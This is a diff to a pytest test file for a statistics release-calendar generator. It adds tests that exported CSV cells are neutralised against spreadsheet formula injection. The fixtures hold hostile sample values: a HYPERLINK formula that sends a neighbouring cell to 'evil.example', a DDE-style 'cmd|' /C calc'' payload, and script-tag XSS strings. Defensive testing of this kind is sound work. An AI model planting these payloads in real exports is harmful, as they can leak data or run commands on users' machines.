@@ -8,9 +8,9 @@ import re
 from html.parser import HTMLParser
 
 import pytest
-from helpers import PROGRAMME, write_schedules
+from helpers import PROGRAMME, run_cli, write_schedules
 
-from calendar_gen.pages import csv_lines, json_lines, render_index
+from calendar_gen.pages import csv_lines, json_lines, render_index, spreadsheet_cell
 from calendar_gen.releases import FIELDS, expand
 from calendar_gen.schedule import load_programme
 from calendar_gen.texts import describe
@@ -101,19 +101,34 @@ def with_history(tmp_path, topic: str):
 
 PLAIN = HOSTILE.replace('description = "<img src=x onerror=alert(1)>"\n', "")
 WELSH = HOSTILE.replace("<img src=x onerror=alert(1)>", 'Ystadegau ŵyr, \\"dyfyniad\\"\\n😀')
+# Cells a spreadsheet would run: a live link that leaks a neighbouring cell, and sums.
+FORMULAS = """\
+topic = "+1+1"
+
+[[publication]]
+id = "hostile"
+title = "=HYPERLINK(\\"http://evil.example/?x=\\"&B3,\\"Click\\")"
+designation = "Official Statistics"
+frequency = "bi-annual"
+months = [5, 11]
+day = "second tuesday"
+description = "@SUM(1+1)*cmd|' /C calc'!A0"
+"""
 
 
-@pytest.mark.parametrize("topic", [HOSTILE, PLAIN, WELSH])
+@pytest.mark.parametrize("topic", [HOSTILE, PLAIN, WELSH, FORMULAS])
 def test_data_files_are_what_the_csv_and_json_libraries_write(tmp_path, topic):
     releases = with_history(tmp_path, topic)
     assert releases[0].changes  # the moved release, with a reason to quote
     rows = [r.as_dict() for r in releases]
-    # The library path: csv.writer and json.dumps over each release's as_dict().
+    # The library path: csv.writer and json.dumps over each release's as_dict(), every CSV
+    # cell made safe for spreadsheets.
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
     writer.writerow(FIELDS)
     for release, row in zip(releases, rows, strict=True):
-        writer.writerow([*list(row.values())[:-1], "; ".join(describe(c) for c in release.changes)])
+        cells = [*list(row.values())[:-1], "; ".join(describe(c) for c in release.changes)]
+        writer.writerow([spreadsheet_cell(str(cell)) for cell in cells])
     assert "".join(csv_lines(releases)) == buffer.getvalue()
     lines = [json.dumps(row, ensure_ascii=False) for row in rows]
     assert "".join(json_lines(releases)) == "[\n" + ",\n".join("  " + x for x in lines) + "\n]\n"
@@ -128,3 +143,36 @@ def test_data_files_match_the_list_fields(tmp_path):
     assert tuple(rows[0]) == FIELDS == tuple(data[0])
     assert [r["date"] for r in rows] == [r["date"] for r in data] == ["2014-05-13", "2014-11-11"]
     assert rows[0]["title"] == "<script>alert('x')</script> \"quoted\""
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_spreadsheet_cell_neutralises_what_a_spreadsheet_would_run(text):
+    assert spreadsheet_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["", "Crime 2014", "a=1", "'quoted", "Ŵyr"])
+def test_spreadsheet_cell_leaves_other_text_alone(text):
+    assert spreadsheet_cell(text) == text
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
+    releases = with_history(tmp_path, FORMULAS)
+    (row, *_) = csv.DictReader(io.StringIO("".join(csv_lines(releases))))
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?x="&B3,"Click")'
+    assert row["topic_name"] == "'+1+1"
+    assert row["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["history"].startswith("Moved from")
+    data = json.loads("".join(json_lines(releases)))
+    assert data[0]["title"].startswith("=HYPERLINK")  # JSON is data, not a spreadsheet
+
+
+def test_releases_csv_has_a_byte_order_mark_for_excel(tmp_path):
+    write_schedules(tmp_path / "schedules", {"t": WELSH})
+    assert run_cli("build", "--as-of", "2014-06-01", cwd=tmp_path).returncode == 0
+    data = (tmp_path / "feeds" / "releases.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf" + ",".join(FIELDS).encode())
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0]["description"].startswith("Ystadegau ŵyr")
+    # Printed to a terminal or a pipe it has none: only a file opened by a spreadsheet needs it.
+    listed = run_cli("list", "--format", "csv", cwd=tmp_path).stdout
+    assert listed.startswith(",".join(FIELDS))
